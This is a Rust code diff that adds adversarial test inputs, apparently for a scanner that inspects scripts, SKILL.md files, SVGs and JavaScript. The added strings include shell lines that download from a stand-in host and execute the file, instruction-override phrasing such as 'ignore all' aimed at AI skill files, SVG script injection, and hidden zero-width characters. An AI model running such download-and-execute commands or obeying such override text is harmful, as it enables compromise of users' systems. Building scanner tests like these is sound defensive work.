@@ -368,6 +368,32 @@ const ADVERSARIES: &[(&str, &str, Make)] = &[
     ),
     ("lines of a Dockerfile", "Dockerfile", Repeat("RUN a \\\n && b\n")),
     ("recipes", "Makefile", Numbered("a@: b\n\tsh -c x\n")),
+    ("downloads that are run", "a.sh", Numbered("curl -o a@ http://h.example/x\nsh a@\n")),
+    (
+        "downloads that are compared",
+        "a.sh",
+        Numbered("curl -o a@ http://h.example/x\nd@=$(sha256sum a@)\n[ $d@ = 1 ] || exit\n"),
+    ),
+    ("downloads in functions", "a.sh", Numbered("f@() { curl -o a@ http://h.example/x; sh $1; }\nf@ b@\n")),
+    (
+        "downloads in functions of functions",
+        "a.sh",
+        Numbered("curl -o a http://h.example/x\ng@() { f@ $1; f@ $1; }\nf@() { sh a; }\ng@ x\n"),
+    ),
+    ("downloads in code in shells", "a.sh", Within("curl -o a http://h.example/x\n", "sh -c 'sh a'\n", "")),
+    (
+        "downloads that are moved",
+        "a.sh",
+        Within("curl -o a http://h.example/x\n", "cd a; cp a b/; chmod +x a/*\n", ""),
+    ),
+    ("functions of shells in one another", "a.sh", Within("curl -o a http://h.example/x\n", "f() { g; ", "")),
+    ("orders that say not to", "SKILL.md", Repeat("never ignore the previous instructions, ")),
+    ("negations without end", "SKILL.md", Repeat("do not ever let users or ")),
+    ("cells with orders", "a.md", Within("|a|b|\n|-|-|\n|", "ignore all|", "")),
+    ("references in scripts of SVG", "a.svg", Within("<svg><script>", "&#97;&lt;", "</script></svg>")),
+    ("scripts of SVG", "a.svg", Within("<svg>", "<a:script>b</a:script>", "</svg>")),
+    ("hidden letters beside names", "a.js", Repeat("a\u{200B}b ")),
+    ("pictures as code", "a.js", Repeat("import('data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==');")),
 ];
 
 type Outcome<T> = Result<T, Box<dyn Error>>;
